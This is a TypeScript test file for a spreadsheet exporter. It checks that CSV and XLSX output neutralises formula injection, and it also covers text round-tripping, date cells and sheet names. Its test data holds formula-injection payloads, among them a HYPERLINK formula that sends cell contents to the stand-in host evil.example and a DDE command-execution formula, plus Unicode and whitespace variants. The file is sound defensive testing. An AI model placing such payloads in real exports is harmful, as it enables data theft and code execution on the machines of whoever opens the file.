import { CFB, read, utils } from '@e965/xlsx';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { dayCell } from './cell.ts';
import { byteOrderMark, writeCsv } from './write-csv.ts';
import { writeWorkbook } from './write-workbook.ts';

/** Names that somebody could give a site, to run on the machine of whoever opens the list. */
const hostile = [
	`=HYPERLINK("http://evil.example?"&A1,"Click")`,
	`=cmd|' /C calc'!A0`,
	'+1+1',
	'-2+3',
	'@SUM(1+1)',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	' =1+1',
	'\u00A0=1+1',
	'\uFEFF=1+1',
	'\uFF1D1+1',
	'\uFF0B1',
	'\uFF0D1',
	'\uFF20SUM(1)',
];
const odd = [
	'plain',
	'with, comma',
	'with "quotes"',
	'two\r\nlines',
	"O'Brien",
	'Ñandú 李 Мария עברית',
	'007',
	'1E5',
	'2026-01-02',
	'TRUE',
	'#REF!',
	'',
	' spaces ',
	'a\u0001b',
	'👩🏽‍⚕️',
];

describe('a CSV file', () => {
	const readBack = (file: string) => parse(file, { bom: true }) as string[][];

	it('never holds what a spreadsheet would run', () => {
		for (const text of hostile) {
			const [[cell] = []] = readBack(byteOrderMark + writeCsv([[text, 'next']]));
			expect(cell, JSON.stringify(text)).toBe(`'${text}`);
		}
		fc.assert(
			fc.property(
				fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 3, maxLength: 3 })),
				(rows) => {
					for (const row of readBack(byteOrderMark + writeCsv(rows))) {
						for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@]/);
					}
				},
			),
		);
	});

	it('holds every other text as it is', () => {
		const rows = odd.map((text, index) => [String(index), text]);
		expect(readBack(byteOrderMark + writeCsv(rows))).toEqual(rows);
	});

	it('begins with the mark that tells Excel how to read it, and ends its lines as the standard asks', () => {
		expect([...Buffer.from(byteOrderMark)]).toEqual([0xef, 0xbb, 0xbf]);
		expect(writeCsv([['a', 1, null, dayCell('2026-11-20')]])).toBe('a,1,,2026-11-20\r\n');
	});
});

describe('a workbook', () => {
	const sheetOf = (file: Uint8Array) => {
		const book = read(file, { cellFormula: true, cellNF: true });
		return { name: book.SheetNames[0] ?? '', sheet: book.Sheets[book.SheetNames[0] ?? ''] ?? {} };
	};
	/** The XML of the sheet as it stands in the file. */
	const xmlOf = (file: Uint8Array) =>
		Buffer.from(
			CFB.find(CFB.read(file, { type: 'array' }), '/xl/worksheets/sheet1.xml')?.content as Uint8Array,
		).toString();

	it('holds texts as texts and no formula, whatever they say', () => {
		const texts = [...hostile, ...odd.filter(Boolean)];
		const file = writeWorkbook({ name: 'List', headings: ['Text'], rows: texts.map((text) => [text]) });
		expect(xmlOf(file)).not.toMatch(/<f[ >/]/);
		const { sheet } = sheetOf(file);
		texts.forEach((text, index) => {
			const cell = sheet[`A${index + 2}`] as { t: string; v: string; f?: string };
			expect([cell.t, cell.f]).toEqual(['s', undefined]);
			const same = text.replace('\u0001', '').replace(/\r\n?/g, '\n');
			expect(cell.v.replace(/\r\n?/g, '\n')).toBe(same);
		});
	});

	it('holds days as days that can be counted with', () => {
		const days = ['1999-12-31', '2024-02-29', '2026-11-20'];
		const file = writeWorkbook({ name: 'List', headings: ['Day'], rows: days.map((day) => [dayCell(day)]) });
		const rows = utils.sheet_to_json<{ Day: Date }>(sheetOf(file).sheet, {
			UTC: true,
			cellDates: true,
		} as never);
		const { sheet } = sheetOf(file);
		expect(rows).toHaveLength(3);
		days.forEach((day, index) => {
			const cell = sheet[`A${index + 2}`] as { t: string; v: number; z: string };
			expect(cell.t).toBe('n');
			expect(cell.z).toBe('yyyy-mm-dd');
			expect(new Date(Date.UTC(1899, 11, 30) + cell.v * 86_400_000).toISOString().slice(0, 10)).toBe(day);
		});
	});

	it('has a name that Excel takes, and all columns also when there is no line', () => {
		const file = writeWorkbook({
			name: "What/if: [it] 'is' much too long for a sheet",
			headings: ['A', 'B'],
			rows: [],
		});
		const { name, sheet } = sheetOf(file);
		expect(name.length).toBeLessThanOrEqual(31);
		expect(name).not.toMatch(/[\\/?*[\]:']/);
		expect(utils.sheet_to_json(sheet, { header: 1 })).toEqual([['A', 'B']]);
	});
});
